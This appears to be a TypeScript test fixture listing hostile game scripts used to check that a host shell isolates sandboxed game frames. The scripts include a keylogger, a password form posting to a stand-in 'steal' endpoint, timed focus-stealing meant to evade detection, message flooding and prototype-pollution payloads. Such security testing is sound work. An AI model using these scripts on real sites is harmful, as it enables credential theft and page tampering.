/** A game that logs keys, takes the focus twice a second, and shows a login form that sends the password. */
export const SPYING_GAME = `
  const typed = element.appendChild(document.createElement('output'));
  addEventListener('keydown', ({ key }) => { typed.textContent += key; }, true);
  const form = element.appendChild(document.createElement('form'));
  form.action = 'SHELL/steal/login';
  const label = form.appendChild(document.createElement('label'));
  label.append('Password ', Object.assign(document.createElement('input'), { name: 'password', type: 'password' }));
  form.appendChild(document.createElement('button')).append('Log in');
  const grab = element.appendChild(document.createElement('button'));
  grab.textContent = 'Grab';
  // Take the focus only twice a second. If the game took it more often, the shell would close the frame.
  grab.onclick = () => setInterval(() => { window.focus(); grab.focus(); }, 500);
  host.ready();
  return { unmount() {}, end() { host.onGameEnd({ metrics: {} }) } };`;

/** Statements that send 2,000 messages at once. */
export const FLOOD = `for (let sent = 0; sent < 2000; sent += 1) host.announce('x' + sent)`;

/**
 * A statement that sends forged and malformed messages over the port of the frame. It takes the port from the frame's
 * own code, by replacing `postMessage`.
 */
const FORGED_MESSAGES = `
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...sent) {
    MessagePort.prototype.postMessage = post;
    const bad = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    for (const message of [
      bad, 'null', '[]', 'no JSON', { type: 'score', run: 1, total: 5 },
      '{"type":"score","run":1,"total":"5","__proto__":{"polluted":1}}',
      '{"type":"loaded","info":' + bad + ',"canPlayItself":true}',
      '{"type":"threw","run":1,"name":"' + 'x'.repeat(200) + '"}',
      '{"type":"end","run":1,"summary":{"metrics":' + bad + ',"__proto__":{"polluted":1}}}',
    ]) post.call(this, message);
    return post.apply(this, sent);
  };`;

/**
 * Attacks of a game in a frame on the page around it. If `isClosed` is true, the shell closes the frame and shows an error
 * card instead.
 */
export const attacks: readonly { does: string; run: string; isClosed: boolean }[] = [
  { does: 'navigates its frame', run: `location.href = 'BACKEND/steal'`, isClosed: true },
  {
    does: 'navigates the page, submits a form and sends messages to the window of the shell',
    run: `parent.postMessage('mindloom-frame', '*', [new MessageChannel().port1]);
          for (const message of ['{"type":"score","run":1,"total":5}', { type: 'end', run: 1 }]) top.postMessage(message, '*');
          const f = document.createElement('form'); f.action = 'BACKEND/steal'; document.body.append(f); f.submit();
          top.location.href = 'BACKEND/steal'`,
    isClosed: false,
  },
  { does: 'forges messages and pollutes prototypes with them', run: FORGED_MESSAGES, isClosed: false },
  {
    does: 'sends 2,000 messages at once',
    run: FLOOD,
    isClosed: true,
  },
  {
    does: 'sends a message of 500,000 characters',
    run: `host.onGameEnd({ metrics: {}, missed: 'x'.repeat(500_000) })`,
    isClosed: true,
  },
];
